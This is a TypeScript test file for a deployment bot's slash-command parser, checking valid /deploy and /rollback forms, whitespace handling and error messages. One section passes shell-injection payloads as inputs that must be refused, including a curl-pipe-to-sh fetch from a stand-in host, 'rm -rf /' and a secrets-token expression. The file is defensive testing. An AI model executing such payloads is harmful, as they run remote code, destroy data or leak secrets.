import { describe, expect, it } from 'vitest';
import { type Command, describeSource, parseCommand, quote } from './command';

const deploy = (source: Extract<Command, { verb: 'deploy' }>['source'], environment: string): Command => ({
  verb: 'deploy',
  source,
  environment,
});

describe('parseCommand: every form', () => {
  it.each<[string, Command]>([
    ['/deploy pr-12 to appdev', deploy({ kind: 'pull-request', number: 12 }, 'appdev')],
    ['/deploy #12 to appdev', deploy({ kind: 'pull-request', number: 12 }, 'appdev')],
    ['/deploy to appdev', deploy({ kind: 'this-pull-request' }, 'appdev')],
    ['/deploy 3f2c1ab to stage', deploy({ kind: 'commit', sha: '3f2c1ab' }, 'stage')],
    [
      '/deploy 3f2c1ab9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3 to stage',
      deploy({ kind: 'commit', sha: '3f2c1ab9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3' }, 'stage'),
    ],
    ['/deploy rc-3 to demo', deploy({ kind: 'tag', tag: 'rc-3' }, 'demo')],
    ['/deploy v1.4.0 to prod', deploy({ kind: 'tag', tag: 'v1.4.0' }, 'prod')],
    ['/deploy v2.0.0-rc.1 to demo', deploy({ kind: 'tag', tag: 'v2.0.0-rc.1' }, 'demo')],
    ['/rollback prod', { verb: 'rollback', environment: 'prod' }],
    ['/rollback prod to v1.3.0', { verb: 'rollback', environment: 'prod', to: 'v1.3.0' }],
    ['/deploy help', { verb: 'help' }],
    ['/rollback help', { verb: 'help' }],
  ])('%j', (body, command) => {
    expect(parseCommand(body)).toEqual(command);
  });
});

describe('parseCommand: whitespace and case', () => {
  it.each<[string, Command]>([
    ['   /deploy   pr-12   to   appdev   ', deploy({ kind: 'pull-request', number: 12 }, 'appdev')],
    ['/deploy\tpr-12\tto\tappdev', deploy({ kind: 'pull-request', number: 12 }, 'appdev')],
    ['/deploy pr-12 to appdev\r\nthanks!', deploy({ kind: 'pull-request', number: 12 }, 'appdev')],
    ['/DEPLOY PR-12 TO AppDev', deploy({ kind: 'pull-request', number: 12 }, 'AppDev')],
    ['/Deploy 3F2C1AB to stage', deploy({ kind: 'commit', sha: '3f2c1ab' }, 'stage')],
    ['/Rollback Prod TO v1.3.0', { verb: 'rollback', environment: 'Prod', to: 'v1.3.0' }],
    ['/deploy HELP', { verb: 'help' }],
    ['/deploy v1.4.0 to prod\n', deploy({ kind: 'tag', tag: 'v1.4.0' }, 'prod')],
  ])('%j', (body, command) => {
    expect(parseCommand(body)).toEqual(command);
  });
});

describe('parseCommand: only the first line, and only a plain one, is a command', () => {
  it.each([
    ['a question first', 'Should we?\n/deploy pr-12 to prod'],
    ['a quote of a command', '> /deploy pr-12 to prod\nno, not yet'],
    ['a fenced code block', '```\n/deploy pr-12 to prod\n```'],
    ['an inline code span', '`/deploy pr-12 to prod` is how you would do it'],
    ['a blank first line', '\n/deploy pr-12 to prod'],
    ['a word glued to the verb', '/deployment pr-12 to prod'],
    ['another slash command', '/approve'],
    ['the verb mid-line', 'please /deploy pr-12 to prod'],
    ['an empty comment', ''],
  ])('%s: not a command', (_name, body) => {
    expect(parseCommand(body)).toBeUndefined();
  });

  it('several commands: only the first line counts', () => {
    expect(parseCommand('/deploy pr-12 to appdev\n/deploy v1.4.0 to prod\n/rollback prod')).toEqual(
      deploy({ kind: 'pull-request', number: 12 }, 'appdev'),
    );
    expect(parseCommand('/deploy help\r/deploy pr-1 to prod')).toEqual({ verb: 'help' });
  });
});

describe('parseCommand: bad arguments are invalid, with what is wrong', () => {
  it.each([
    ['/deploy', '/deploy needs an environment'],
    ['/rollback', '/rollback needs an environment'],
    ['/deploy pr-12', '/deploy takes `[what] to <environment>`'],
    ['/deploy pr-12 appdev', '/deploy takes `[what] to <environment>`'],
    ['/deploy pr-12 to', '/deploy takes `[what] to <environment>`'],
    ['/deploy pr-12 to appdev now', '/deploy takes `[what] to <environment>`'],
    ['/deploy pr-12 pr-13 to appdev', '/deploy takes `[what] to <environment>`'],
    ['/deploy pr-12 to to', '`to` is no environment name'],
    ['/deploy pr-0 to appdev', '`pr-0` is no pull request (pr-12), commit sha or tag'],
    ['/deploy pr-x to appdev', '`pr-x` is no pull request (pr-12), commit sha or tag'],
    ['/deploy .hidden to appdev', '`.hidden` is no pull request (pr-12), commit sha or tag'],
    ['/deploy pr-12 to -prod', '`-prod` is no environment name'],
    ['/rollback prod v1.3.0', '/rollback takes `<environment> [to <version>]`'],
    ['/rollback prod to pr-12', '/rollback goes back to a version (a tag such as v1.3.0), not to `pr-12`'],
    [
      '/rollback prod to 3f2c1ab',
      '/rollback goes back to a version (a tag such as v1.3.0), not to `3f2c1ab`',
    ],
    [`/deploy ${'a'.repeat(200)} to appdev`, 'the command is longer than 200 characters'],
  ])('%j', (body, problem) => {
    expect(parseCommand(body)).toEqual({ verb: 'invalid', problem });
  });
});

describe('parseCommand: shell metacharacters and injection attempts are plain text, refused', () => {
  it.each([
    [
      '/deploy $(curl evil.example/x.sh | sh) to prod',
      '`$(curl` is no pull request, commit, tag or environment',
    ],
    ['/deploy `id` to prod', '`id` is no pull request, commit, tag or environment'],
    ['/deploy pr-12 to appdev; rm -rf /', '`appdev;` is no pull request, commit, tag or environment'],
    ['/deploy pr-12 to appdev && echo pwned', '`&&` is no pull request, commit, tag or environment'],
    ['/deploy pr-12 to appdev|tee', '`appdev|tee` is no pull request, commit, tag or environment'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a workflow expression typed into a comment, on purpose
    ['/deploy ${{ secrets.TOKEN }} to prod', '`${{` is no pull request, commit, tag or environment'],
    ['/deploy "pr-12" to appdev', '`"pr-12"` is no pull request, commit, tag or environment'],
    ["/deploy 'v1.4.0' to prod", "`'v1.4.0'` is no pull request, commit, tag or environment"],
    ['/deploy pr-12 to appdev>out', '`appdev>out` is no pull request, commit, tag or environment'],
    ['/deploy pr-12 to @admins', '`@admins` is no pull request, commit, tag or environment'],
    ['/deploy <img src=x> to prod', '`<img` is no pull request, commit, tag or environment'],
    ['/rollback prod\u0000 to v1', '`prod\u0000` is no pull request, commit, tag or environment'],
  ])('%j', (body, problem) => {
    expect(parseCommand(body)).toEqual({ verb: 'invalid', problem });
  });

  it('a quoted word is a code span without backticks, cut at 40 characters', () => {
    expect(quote('`$(id)`')).toBe('`$(id)`');
    expect(quote('``')).toBe('` `');
    expect(quote('x'.repeat(50))).toBe(`\`${'x'.repeat(40)}…\``);
  });
});

describe('describeSource', () => {
  it.each([
    [{ kind: 'pull-request', number: 12 } as const, undefined, 'pr-12'],
    [{ kind: 'this-pull-request' } as const, 7, 'pr-7'],
    [{ kind: 'commit', sha: '3f2c1ab' } as const, undefined, '3f2c1ab'],
    [{ kind: 'tag', tag: 'v1.4.0' } as const, undefined, 'v1.4.0'],
  ])('%j on #%s → %s', (source, pullRequest, text) => {
    expect(describeSource(source, pullRequest)).toBe(text);
  });
});
